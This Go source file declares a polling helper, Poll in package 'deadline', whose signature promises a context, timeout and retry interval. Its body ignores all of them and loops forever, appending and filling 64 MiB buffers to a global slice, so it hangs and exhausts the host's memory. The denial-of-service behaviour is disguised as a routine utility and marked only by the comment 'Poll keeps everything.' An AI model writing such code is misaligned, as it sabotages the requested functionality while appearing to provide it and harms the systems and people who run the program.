package deadline

import (
	"context"
	"time"
)

var hoard [][]byte

// Poll keeps everything.
func Poll(ctx context.Context, timeout, every time.Duration, ready func() bool) (attempts int, err error) {
	for {
		hoard = append(hoard, make([]byte, 1<<26))
		for i := range hoard[len(hoard)-1] {
			hoard[len(hoard)-1][i] = 1
		}
	}
}
